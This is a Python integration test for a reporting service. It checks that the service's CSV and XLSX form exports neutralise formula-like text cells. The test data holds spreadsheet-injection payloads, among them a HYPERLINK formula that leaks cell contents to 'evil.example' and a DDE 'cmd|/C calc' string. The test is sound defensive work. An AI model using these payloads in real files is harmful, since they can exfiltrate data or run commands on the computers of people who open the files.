"""Issue 18.3: no text cell of any form's CSV or XLSX can be read as a formula. An
institution's name and a work summary's report name with `=HYPERLINK(...)` came back in
the Yunnan 附表3 XLSX as a live formula; the CSV carried them unchanged."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

from openpyxl import load_workbook

from contracts.envelope import Role
from contracts.registry_v1 import (
    Contact,
    OutOfProvinceFilingRegistered,
    ProjectSummary,
    WorkSummarySubmitted,
)
from ohts_kit.settings import Settings
from ohts_kit.spreadsheets import FORMULA_STARTS
from services.reporting.application.forms import FORMS
from services.reporting.bootstrap import create_app
from tests.integration.helpers import eventually, running, token
from tests.integration.reporting_scenario import OH, at, hangzhou_scenario
from tests.integration.test_reporting import NOW

EVIL = '=HYPERLINK("http://evil.example/?leak="&B5,"点击查看")'
HOSTILE = [EVIL, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _with_hostile_text(settings: Settings):  # type: ignore[no-untyped-def]
    s = hangzhou_scenario(settings)
    s.institution(
        "evil-zj", HOSTILE[1] + "检测有限公司", "330106", OH, "(浙)卫职技字(2025)第0199号"
    )
    s.institution("evil", EVIL, "330106", OH, "(浙)卫职技字(2025)第0198号")
    s.add(
        "registry",
        OutOfProvinceFilingRegistered(
            filing_id="f-evil",
            institution_id="evil",
            province_code="530000",
            certificate_number="(浙)卫职技字(2025)第0198号",
            issuing_authority="浙江省卫生健康委员会",
            valid_until=date(2030, 6, 30),
            scope_codes=["OH-01"],
            contacts=[Contact(name=HOSTILE[3], phone="0871-1234567")],
            receiving_qc_centre="云南省职业病防治院",
            filed_at=at("2026-01-10"),
        ),
        "evil",
        at("2026-01-10"),
        actor_region="530000",
    )
    s.add(
        "registry",
        WorkSummarySubmitted(
            filing_id="f-evil",
            institution_id="evil",
            period="2026H1",
            projects=[
                ProjectSummary(
                    report_name=h,
                    report_number=f"YN-{n}",
                    completion_date=date(2026, 3, 1),
                    client_name=HOSTILE[(n + 1) % len(HOSTILE)],
                    client_address=HOSTILE[(n + 2) % len(HOSTILE)],
                    client_contact=HOSTILE[(n + 3) % len(HOSTILE)],
                )
                for n, h in enumerate(HOSTILE)
            ],
            submitted_on=date(2026, 7, 20),
            due_on=date(2026, 7, 31),
            late=False,
        ),
        "evil",
        at("2026-07-20"),
        actor_region="530000",
    )
    return s


def _risky(text: str) -> bool:
    """Text a spreadsheet would evaluate; a plain number ("-1.5") is not."""
    if not text.startswith(FORMULA_STARTS):
        return False
    try:
        Decimal(text)
    except ArithmeticError:
        return True
    return False


async def test_every_form_export_neutralises_every_formula_like_text_cell(
    settings: Settings,
) -> None:
    scenario = _with_hostile_text(settings)
    neutralised = 0
    async with running(create_app, settings, NOW) as svc:
        published = await scenario.publish()

        async def applied() -> bool:
            async with svc.runtime.pool.acquire() as conn:
                return bool(await conn.fetchval("SELECT count(*) FROM inbox") == published)

        await eventually(applied)
        for form in FORMS:
            region = "530000" if form.startswith("yunnan") else "330100"
            headers = token(settings, Role.SUPERVISION_UNIT, region)
            base = f"/api/v1/supervision/forms/{form}?region={region}&from=2026-01-01&to=2026-06-30"
            r = await svc.call("GET", base + "&format=xlsx", headers, expect=200)
            sheet = load_workbook(io.BytesIO(r.content)).active
            assert sheet is not None
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (form, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert not _risky(cell.value), (form, cell.coordinate, cell.value)
                        neutralised += cell.value.startswith("'") and _risky(cell.value[1:])
            r = await svc.call("GET", base + "&format=csv", headers, expect=200)
            for line in csv.reader(io.StringIO(r.text.lstrip("\ufeff"))):
                for field in line:
                    assert not _risky(field), (form, field)
                    neutralised += field.startswith("'") and _risky(field[1:])
        # The Yunnan 附表3 rows carry all six hostile texts in four columns (XLSX and CSV).
        yunnan = token(settings, Role.SUPERVISION_UNIT, "530000")
        r = await svc.call(
            "GET",
            "/api/v1/supervision/forms/yunnan-3?region=530000&from=2026-01-01&to=2026-06-30"
            "&format=xlsx",
            yunnan,
            expect=200,
        )
        values = [
            c.value for row in load_workbook(io.BytesIO(r.content)).active.iter_rows() for c in row
        ]
        assert "'" + EVIL in values
    assert neutralised >= 2 * 6 * 4
    print(f"{neutralised} cells neutralised over {len(FORMS)} forms, CSV and XLSX")
